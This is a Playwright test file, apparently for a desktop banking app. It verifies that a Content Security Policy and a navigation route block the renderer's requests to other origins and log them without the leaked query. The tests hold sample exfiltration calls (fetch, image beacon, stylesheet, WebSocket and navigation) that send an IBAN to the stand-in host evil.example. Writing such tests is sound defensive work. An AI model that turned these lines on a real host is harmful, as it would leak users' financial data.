import { expect, test } from './fixtures.js';

test.describe('when the renderer tries to reach the network', () => {
  test('a fetch to another origin is refused by the CSP (connect-src none) and reported', async ({ app }) => {
    const { page } = app;
    await app.unlock();
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('https://evil.example/steal?iban=DE89370400440532013000', { mode: 'no-cors' });
        return 'sent';
      } catch (error) {
        return `refused: ${(error as Error).name}`;
      }
    });
    expect(outcome).toBe('refused: TypeError');
    await expect.poll(() => app.blocked).toContainEqual({ kind: 'csp', target: "connect-src 'none'", reason: 'DESKTOP_CSP_VIOLATION' });
  });

  test('a same-origin fetch is refused as well: the UI talks only through the door', async ({ app }) => {
    const outcome = await app.page.evaluate(async () => {
      try {
        await fetch('/index.html');
        return 'sent';
      } catch {
        return 'refused';
      }
    });
    expect(outcome).toBe('refused');
  });

  test('an image, a stylesheet or a WebSocket to another origin never leaves either', async ({ app }) => {
    const { page } = app;
    await page.evaluate(() => {
      const img = document.createElement('img');
      img.src = 'https://evil.example/pixel.png?leak=1';
      document.body.append(img);
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://evil.example/x.css';
      document.head.append(link);
      try {
        new WebSocket('wss://evil.example/socket');
      } catch {
        // Refused synchronously by the CSP.
      }
    });
    await expect.poll(() => app.blocked.filter((e) => e.kind === 'csp').map((e) => e.target)).toEqual(expect.arrayContaining(["img-src 'self'", "style-src 'self'", "connect-src 'none'"]));
    expect(app.blocked.filter((e) => e.kind === 'request')).toEqual([]);
  });

  test('a request the CSP would not stop still meets the route: another origin is aborted and reported without its query', async ({ app }) => {
    // A navigation is not governed by the CSP; the shell's route refuses it.
    await app.page.evaluate(() => {
      location.href = 'https://evil.example/collect?iban=DE89370400440532013000#frag';
    });
    await expect.poll(() => app.blocked).toContainEqual({ kind: 'navigation', target: 'https://evil.example/collect', reason: 'DESKTOP_OFF_ORIGIN' });
    await expect(app.page).toHaveURL('https://desktop.bank.example/');
    await expect(app.page.locator('[data-screen="lock"]')).toBeVisible();
    expect(JSON.stringify(app.blocked)).not.toContain('DE89');
  });
});
